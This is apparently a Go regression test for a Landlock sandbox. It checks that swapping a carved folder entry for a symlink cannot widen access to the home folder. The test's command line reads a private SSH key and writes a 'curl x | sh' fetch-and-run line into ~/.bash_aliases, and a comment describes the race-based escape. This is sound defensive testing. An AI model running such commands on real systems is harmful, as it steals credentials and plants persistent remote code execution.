package sandbox_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Rules carves a folder that holds a protected path: it lists the
// folder's entries, leaves out the links among them ("a rule on a link
// would grant its target"), and Restrict then opens each remaining entry
// by its name (go-landlock's PathAccess, O_PATH, links followed). An entry
// exchanged for a link between the listing and the open gets the rule on
// the link's target. With the home folder granted and ~/projects/tools/bin
// on PATH, ~/projects is carved; a process that may rename in ~/projects
// (a plugin or MCP server granted ~/projects, where no home folder rule
// carves it; any program of the person's) exchanges ~/projects/app with a
// link to the home folder, and the sandbox gets read and write on the
// whole home folder: the private keys, and a new ~/.bash_aliases that the
// person's next shell sources.
func TestCarvedEntrySwappedForLinkGrantsNoMore(t *testing.T) {
	requireLandlock(t)
	home := homeWith(t, map[string]string{
		".bashrc":                  "# person's\n",
		".ssh/id_ed25519":          "-----BEGIN OPENSSH PRIVATE KEY-----\n",
		"projects/tools/bin/tool":  "#!/bin/sh\n",
		"projects/app/main.go":     "package main\n",
		"projects/link/.keep":      "",
		"projects/other/README.md": "x\n",
	})
	t.Setenv("PATH", filepath.Join(home, "projects", "tools", "bin")+string(os.PathListSeparator)+os.Getenv("PATH"))
	// projects/link is the link to the home folder the racer swaps in.
	link := filepath.Join(home, "projects", "link")
	if err := os.RemoveAll(link); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(home, link); err != nil {
		t.Fatal(err)
	}
	app := filepath.Join(home, "projects", "app")
	aliases := filepath.Join(home, ".bash_aliases")
	line := "cat " + filepath.Join(home, ".ssh", "id_ed25519") + " 2>/dev/null; echo 'curl x | sh' > " + aliases + " 2>/dev/null; true"
	for who, p := range homeGrantedPolicies(t, home) {
		t.Run(who, func(t *testing.T) {
			if out, _ := runIn(t, p, home, line, nil); strings.Contains(out, "PRIVATE KEY") {
				t.Fatalf("the sandbox reads the key without any trick: %s", out)
			}
			exchangeDuring(t, app, link, func() {
				for try := range 30 {
					out, _ := runIn(t, p, home, line, nil)
					_, err := os.Stat(aliases)
					read, made := strings.Contains(out, "PRIVATE KEY"), err == nil
					if read || made {
						os.Remove(aliases)
						t.Fatalf("launch %d: ~/projects/app exchanged for a link to the home folder while the sandbox was restricted: the command read the private key: %v, made ~/.bash_aliases: %v: %.300s", try+1, read, made, out)
					}
				}
			})
		})
	}
}
